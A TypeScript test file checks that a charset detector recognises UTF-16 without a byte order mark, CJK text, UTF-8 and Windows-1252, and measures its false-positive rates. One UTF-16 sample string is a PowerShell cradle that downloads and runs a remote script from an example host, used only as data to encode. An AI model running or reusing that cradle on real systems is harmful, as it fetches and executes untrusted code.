import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { anyCharacter, runs } from '../../../../scripts/seed-tests.ts';
import { isUtf8 } from '../utf8.ts';
import { encodeText } from './encode.ts';
import { recognizeCharset } from './recognize.ts';

const recognize = (bytes: Uint8Array) => recognizeCharset(bytes, 'auto');
const utf8 = { charset: 'utf-8', notes: [] };

/** Maps each character of a text to its bytes in a legacy encoding, by decoding all pairs of bytes. */
function bytesIn(label: string, characters: string): ReadonlyMap<string, readonly number[]> {
  const decoder = new TextDecoder(label);
  const all = Array.from({ length: 256 }, (_, byte) => byte);
  const found = new Map<string, readonly number[]>(all.map((byte) => [decoder.decode(Uint8Array.of(byte)), [byte]]));
  for (const first of all.slice(0x81)) {
    for (const second of all.slice(0x40)) {
      const character = decoder.decode(Uint8Array.of(first, second));
      if (characters.includes(character) && !found.has(character)) found.set(character, [first, second]);
    }
  }
  return found;
}

describe('UTF-16 without a byte order mark', () => {
  test.each([
    'Hi',
    'whoami',
    'IEX (New-Object Net.WebClient).DownloadString("http://example.com/a.ps1")\r\n',
    'Grüße an Zoë',
    'It’s 5 € – “cheap”…',
    'Привет, мир – “да”',
    'Καλημέρα κόσμε',
    'שלום עולם',
    'مرحبا بالعالم',
    'echo 日本語; Write-Output "完了"',
    'smile 😀 and go',
    'ended by NUL\0',
  ])('recognizes %j in both byte orders', (text) => {
    for (const charset of ['utf-16le', 'utf-16be'] as const)
      expect(recognize(encodeText(text, charset, 'text'))).toEqual({ charset, notes: ['read-as-utf-16'] });
  });

  test('recognizes any Latin text of two or more characters', () => {
    const latin = fc.string({ unit: fc.constantFrom(...' \t\nabcXYZ019.,;-éüßÿñ'), minLength: 2, maxLength: 60 });
    fc.assert(
      fc.property(latin, fc.constantFrom('utf-16le', 'utf-16be'), (text, charset) => {
        expect(recognize(encodeText(text, charset, 'text')).charset).toBe(charset);
      }),
      { numRuns: runs(500) },
    );
  });
});

describe('UTF-16 in Chinese, Japanese and Korean', () => {
  test.each([
    '今天天气很好，我们去公园散步。',
    '他说：“你好……世界”——然后走了。',
    '本日は晴天なり。明日も晴れるでしょう。',
    'アメリカ合衆国の首都はワシントン',
    '안녕하세요 여러분 반갑습니다',
    '대한민국의 모든 권력은 국민으로부터 나온다.',
    '第 1 章 Windows 的安装与配置说明',
    '你好😀世界，今天天气很好',
    '項目,数量\r\nりんご,3\r\nみかん,12\r\n',
  ])('recognizes %j in both byte orders', (text) => {
    for (const charset of ['utf-16le', 'utf-16be'] as const)
      expect(recognize(encodeText(text, charset, 'text'))).toEqual({ charset, notes: ['read-as-utf-16'] });
  });

  test('recognizes any text of six or more characters, a third of them kana', () => {
    const kana = fc.oneof(fc.integer({ min: 0x3041, max: 0x3096 }), fc.integer({ min: 0x30a1, max: 0x30fe })).map((code) => String.fromCharCode(code));
    // Characters ending in 00, such as U+4E00, are Latin in the other byte order.
    const han = fc
      .integer({ min: 0x4e00, max: 0x9fa5 })
      .filter((code) => code % 256 > 0)
      .map((code) => String.fromCharCode(code));
    const text = fc.array(fc.tuple(kana, han, han), { minLength: 2, maxLength: 20 }).map((groups) => groups.flat().join(''));
    fc.assert(
      fc.property(text, fc.constantFrom('utf-16le', 'utf-16be'), (given, charset) => {
        const bytes = encodeText(given, charset, 'text');
        fc.pre(!isUtf8(bytes));
        expect(recognize(bytes).charset).toBe(charset);
      }),
      { numRuns: runs(500) },
    );
  });

  const frequent = {
    'zh-Hans': '的一是不了人我在有他这为之大来以个中上们到说国和地也子时道出而要于就下得可你年生自会那后能对着事其里所去行过家十用发天',
    'zh-Hant': '的一是不了人我在有他這為之大來以個中上們到說國和地也子時道出而要於就下得可你年生自會那後能對著事其裡所去行過家十用發天',
    ja: 'のにはをたがでてとしれさあいうかきくけこなまもやりるんアイスクトラルンー、。日本人年大国中出行生時見月分後前',
    ko: '가나다라마바사아자차카하이그저것수등들에의을를은는로으도만지기고했습니있없않되어서면할한해인데며요네부시대학교사람일년월국',
  };
  let state = 1;
  const next = (limit: number): number => (state = (state * 48_271) % 0x7fff_ffff) % limit;
  const textOf = (characters: readonly string[], length: number): readonly string[] => Array.from({ length }, () => characters[next(characters.length)] ?? '');

  test.each(Object.entries(frequent))('recognizes almost all texts of 32 frequent characters in %s', (_language, characters) => {
    const counts = { right: 0, wrong: 0 };
    for (let run = 0; run < 400; run++) {
      const charset = run % 2 > 0 ? 'utf-16le' : 'utf-16be';
      const found = recognize(encodeText(textOf([...characters], 32).join(''), charset, 'text')).charset;
      if (found === charset) counts.right++;
      else if (found !== 'utf-8') counts.wrong++;
    }
    expect(counts.right).toBeGreaterThan(380);
    expect(counts.wrong).toBeLessThan(4);
  });

  test.each([
    ['gbk', frequent['zh-Hans']],
    ['big5', frequent['zh-Hant']],
    ['shift_jis', frequent.ja],
    ['euc-jp', frequent.ja],
    ['euc-kr', frequent.ko],
    ['koi8-r', 'абвгдежзийклмнопрстуфхцчшщъыьэюя'],
    ['windows-1251', 'абвгдежзийклмнопрстуАБВГДЕЖЗИЙ'],
    ['windows-1250', 'abcdefghijklmnoprstuvyząćęłńóśźżčďěňřšťůž'],
  ])('rarely mistakes text in %s for UTF-16', { tags: ['slow'] }, (label, characters) => {
    const table = bytesIn(label, characters);
    let recognized = 0;
    for (let run = 0; run < 1200; run++) {
      const more = [[], [' ', ' ', ' '], [...' ,.\n0123456789']][run % 3] ?? [];
      const text = textOf([...characters, ...more], 6 + (run % 30));
      const bytes = Uint8Array.from(text.flatMap((character) => table.get(character) ?? []));
      if (recognize(bytes).charset.startsWith('utf-16')) recognized++;
    }
    expect(recognized).toBeLessThan(12);
  });

  test('rarely reads random bytes as UTF-16', () => {
    let recognized = 0;
    for (let run = 0; run < 4000; run++) {
      const bytes = Uint8Array.from({ length: 12 + 2 * (run % 12) }, () => next(0x7fff_ffff) >> 8);
      if (recognize(bytes).charset.startsWith('utf-16')) recognized++;
    }
    expect(recognized).toBeLessThan(8);
  });
});

describe('valid UTF-8', () => {
  test.each([
    '',
    'A\0',
    'ab\0c',
    'ab\0cd\0',
    'name\0value\0',
    '\0\0\0\0',
    'Bush hid the facts',
    '日本語',
    '\u001B[31mred\u001B[0m',
    'é😀',
    '\u0002field\u0003',
  ])('reads %j as UTF-8', (text) => expect(recognize(encodeText(text, 'utf-8', 'text'))).toEqual(utf8));

  test('reads any text without NUL and other control characters as UTF-8', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: anyCharacter, maxLength: 40 }).filter((text) => !/(?!\s)\p{Cc}/u.test(text) && !text.startsWith('\uFEFF')),
        (text) => {
          expect(recognize(encodeText(text, 'utf-8', 'text'))).toEqual(utf8);
        },
      ),
      { numRuns: runs(1000) },
    );
  });
});

describe('Windows-1252', () => {
  test.each(['Grüße', 'äöü', 'ä', 'café', 'façade à gauche', 'déjà vu…', '„Zürich“ – 5 €', 'niño ¿qué?', 'smørrebrød på fjorden', 'coração', 'entrée\u00A0!'])(
    'recognizes %j',
    (text) => expect(recognize(encodeText(text, 'windows-1252', 'text'))).toEqual({ charset: 'windows-1252', notes: ['read-as-windows-1252'] }),
  );

  test.each([
    ['truncated UTF-8', [0xe6, 0x97, 0xa5, 0xe6, 0x9c]],
    ['truncated inside the text', [0xe2, 0x82, 0x78]],
    ['UTF-8 with one damaged byte', [0xc3, 0xa9, 0xff, 0x41]],
    ['an overlong form', [0x41, 0xc0, 0xaf]],
    ['a surrogate', [0xed, 0xa0, 0x80]],
    ['bytes that Windows-1252 lacks', [0x41, 0x81, 0x8d]],
    ['controls', [0x01, 0xe4, 0x02]],
    ['gzip', [0x1f, 0x8b, 0x08, 0x00, 0xe4]],
  ])('does not recognize %s', (_title, values) => expect(recognize(Uint8Array.from(values))).toEqual(utf8));

  test('rarely reads random bytes, such as keys and digests, as text', () => {
    let recognized = 0;
    let state = 1;
    for (let run = 0; run < 2000; run++) {
      const bytes = Uint8Array.from({ length: 16 }, () => (state = (state * 48_271) % 0x7fff_ffff) >> 8);
      if (!isUtf8(bytes) && recognize(bytes).charset !== 'utf-8') recognized++;
    }
    expect(recognized).toBeLessThan(40);
  });
});

test('is certain of a chosen encoding and a byte order mark', () => {
  expect(recognizeCharset(Uint8Array.of(0x48, 0, 0x69, 0), 'utf-8')).toEqual(utf8);
  expect(recognize(Uint8Array.of(0xff, 0xfe, 0x48, 0))).toEqual({ charset: 'utf-16le', notes: [] });
  expect(recognize(Uint8Array.of(0xef, 0xbb, 0xbf, 0x48))).toEqual(utf8);
});

// Tools that decode bytes recognize the encoding in the same way.
test.each([
  'tools/base64-string-converter/decode.ts',
  'tools/text-to-binary/operations.ts',
  'tools/text-to-unicode/unescape.ts',
  'tools/url-encoder/decode.ts',
])('%s uses it', (file) => {
  expect(readFileSync(new URL(`../../../${file}`, import.meta.url), 'utf8')).toContain('recognizeCharset(');
});
